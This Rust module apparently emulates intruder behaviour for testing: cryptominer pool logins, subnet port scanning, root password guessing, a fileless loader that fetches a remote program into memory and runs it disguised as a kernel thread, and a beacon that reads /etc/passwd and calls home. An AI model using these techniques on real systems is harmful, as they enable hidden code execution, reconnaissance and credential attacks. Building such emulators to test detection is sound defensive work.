//! What programs do that intruders bring along: work for a pool, look for neighbours, try passwords, run from memory.

use crate::act::{Act, Args, Told, c};
use crate::http;
use crate::process::{Strings, execve_at};
use crate::sys::{self, nr};
use std::io::{self, BufRead as _, BufReader, Write as _};
use std::net::{Ipv4Addr, SocketAddr, TcpStream};
use std::time::{Duration, Instant};

pub const ACTS: &[Act] =
    &[("mine", mine), ("scan", scan), ("guess", guess), ("fileless", fileless), ("resident", resident)];

/// How long any step may take.
const STEP: Duration = Duration::from_secs(10);

/// A connection, in lines.
fn lines(to: SocketAddr) -> io::Result<BufReader<TcpStream>> {
    let stream = TcpStream::connect_timeout(&to, STEP)?;
    stream.set_read_timeout(Some(STEP))?;
    Ok(BufReader::new(stream))
}

/// Sends a line and gives the one that comes back.
fn ask(stream: &mut BufReader<TcpStream>, line: &str) -> io::Result<String> {
    writeln!(stream.get_mut(), "{line}")?;
    let mut answer = String::new();
    stream.read_line(&mut answer)?;
    Ok(answer)
}

/// `mine -o stratum+tcp://ADDR:PORT -u WALLET ...`: logs in as miners do, keeps one CPU busy for a second, and hands in
/// three shares of nothing.
fn mine(args: &Args) -> Told {
    let pool = args.text(1)?.rsplit('/').next().unwrap_or_default();
    let mut stream = lines(pool.parse().map_err(io::Error::other)?)?;
    ask(&mut stream, "{\"id\":1,\"method\":\"login\",\"params\":{\"login\":\"nobody\",\"pass\":\"x\"}}")?;
    for share in 0..3 {
        let until = Instant::now() + Duration::from_millis(300);
        let mut hash = 0xcbf2_9ce4_8422_2325u64;
        while Instant::now() < until {
            for byte in 0..=u8::MAX {
                hash = (hash ^ u64::from(byte)).wrapping_mul(0x100_0000_01b3);
            }
        }
        ask(
            &mut stream,
            &format!("{{\"id\":{},\"method\":\"submit\",\"params\":{{\"result\":\"{hash:016x}\"}}}}", share + 2),
        )?;
    }
    Ok(format!("pool={pool} shares=3"))
}

/// `scan A.B.C FIRST LAST PORT...`: tries every port of every address, one after the other.
fn scan(args: &Args) -> Told {
    let net = args.text(0)?;
    let ports: Vec<u16> = (3..args.0.len()).map(|at| args.port(at)).collect::<io::Result<_>>()?;
    let (mut tried, mut open) = (0, Vec::new());
    for host in args.number(1)?..=args.number(2)? {
        let addr: Ipv4Addr = format!("{net}.{host}").parse().map_err(io::Error::other)?;
        for port in &ports {
            tried += 1;
            if TcpStream::connect_timeout(&SocketAddr::from((addr, *port)), Duration::from_millis(200)).is_ok() {
                open.push(format!("{addr}:{port}"));
            }
        }
    }
    Ok(format!("tried={tried} open={}", open.join(",")))
}

/// `guess ADDR:PORT N`: as many log-ins, each with another password over a connection of its own.
fn guess(args: &Args) -> Told {
    let to = args.text(0)?.parse().map_err(io::Error::other)?;
    for attempt in 0..args.number(1)? {
        ask(&mut lines(to)?, &format!("root password{attempt}"))?;
    }
    Ok(format!("to={to} attempts={}", args.number(1)?))
}

/// `fileless URL ADDR:PORT`: fetches a program into memory and becomes it, under the name of a thread of the kernel;
/// it then does `resident ADDR:PORT`.
fn fileless(args: &Args) -> Told {
    const AT_EMPTY_PATH: usize = 0x1000;
    let program = http::get(args.text(0)?)?;
    let fd = sys::need("memfd_create", sys::named(nr::MEMFD_CREATE, c"", [1]))?;
    std::fs::write(format!("/proc/self/fd/{fd}"), program)?;
    let args = Strings::new(&["[kworker/u4:2]", "resident", args.text(1)?])?;
    let result = execve_at(fd, c"", &args, &Strings::new(&[])?, AT_EMPTY_PATH);
    Err(io::Error::from_raw_os_error(-result as i32))
}

/// `resident ADDR:PORT`: reads who has an account here, calls home, and stays a moment.
fn resident(args: &Args) -> Told {
    let accounts = sys::open(&c("/etc/passwd")?, sys::o::RDONLY, 0);
    sys::close(sys::need("open", accounts)?);
    let to: SocketAddr = args.text(0)?.parse().map_err(io::Error::other)?;
    ask(&mut lines(to)?, "here")?;
    std::thread::sleep(Duration::from_millis(200));
    Ok(format!("to={to}"))
}
